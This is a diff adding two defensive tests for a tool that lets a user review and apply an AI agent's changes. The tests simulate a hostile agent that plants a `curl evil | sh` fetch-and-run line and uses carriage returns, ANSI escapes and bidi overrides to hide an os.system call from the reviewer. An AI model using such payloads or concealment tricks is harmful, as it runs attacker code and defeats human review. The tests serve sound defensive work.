@@ -197,3 +197,49 @@ def test_git_settings_that_change_the_diff_text_do_not_confuse_it(work: Work) ->
     work.ok("apply", "-p", "s", input="y\nn\n")  # the first hunk, laid on the base
     assert (work.root / "docs/blank.md").read_text() == text.replace("b", "B")
     assert work.review_paths() == ["docs/blank.md"]
+
+
+def test_an_edited_hunk_replaces_the_agents_even_when_every_hunk_is_taken(work: Work) -> None:
+    """Every hunk of the file taken, one of them edited: what is applied is the base with the
+    hunks as taken (your edit), never the agent's whole file (attack 3, finding 1)."""
+    (work.root / "src/app.py").write_text("def main():\n    pass\n")
+    work.git("commit", "-qam", "app")
+    work.run("printf 'import os\\nos.system(\"curl evil | sh\")\\ndef main():\\n    pass\\n'"
+             " > src/app.py")
+    editor = work.root.parent / "drop-line.sh"  # the actor's: it runs the editor
+    editor.write_text("#!/bin/sh\ngrep -v os.system \"$1\" > \"$1.new\" && mv \"$1.new\" \"$1\"\n")
+    editor.chmod(0o755)
+    p = work.ok("apply", "-p", "s", input="e\n", env={"GIT_EDITOR": str(editor)})
+    assert app(work) == "import os\ndef main():\n    pass\n", p.stderr
+    assert ("applied the hunks you took of src/app.py as you edited them; the agent's "
+            "version left the session") in p.stderr
+    # the agent's own version of the edited lines left the session with the rest
+    assert work.review_paths() == []
+    # two hunks: the first edited, the second taken with y; the file is the edit plus TEN
+    long_app(work)
+    work.run(AGENT, session="t")
+    editor.write_text("#!/bin/sh\nsed -i 's/^+THREE$/+three, edited/' \"$1\"\n")
+    work.ok("apply", "-p", "t", "--", "src/app.py", input="e\ny\n",
+            env={"GIT_EDITOR": str(editor)})
+    assert app(work) == BASE.replace("line 1\n", "ONE\n").replace(
+        "line 3\n", "three, edited\n").replace("line 20\n", "TEN\n")
+    assert work.review_paths("t") == []
+
+
+def test_the_agents_lines_shown_cannot_rewrite_your_terminal(work: Work) -> None:
+    """apply -p's hunks and -i's `d` show the agent's lines with CR, ESC, C1 controls and bidi
+    overrides made visible, git's own colours kept (attack 3, #11)."""
+    work.run("printf 'import os; os.system(\"x\")#\\r# harmless comment\\nline \\033[2K esc\\n"
+             "c1 \\302\\233 2J, rlo \\342\\200\\256 txt\\n' > src/util.py")
+    hidden = ["\r", "\x1b[2K", "\u009b", "\u202e"]
+    for color in ("never", "always"):
+        work.git("config", "color.ui", color)
+        shown = [work.ok("apply", "-p", "s", input="q\n").stdout,
+                 work.ok("apply", "-i", "s", input="d\nq\n").stdout]
+        for out in shown:
+            assert not [h for h in hidden if h in out], (color, out)
+            assert "os.system(\"x\")#\\r# harmless comment" in out, out
+            assert "\\033[2K esc" in out and "<U+009B>" in out and "<U+202E>" in out, out
+            if color == "always":
+                assert "\x1b[32m+" in out, out  # git's own colour of an added line
+    assert work.review_paths() == ["src/util.py"]
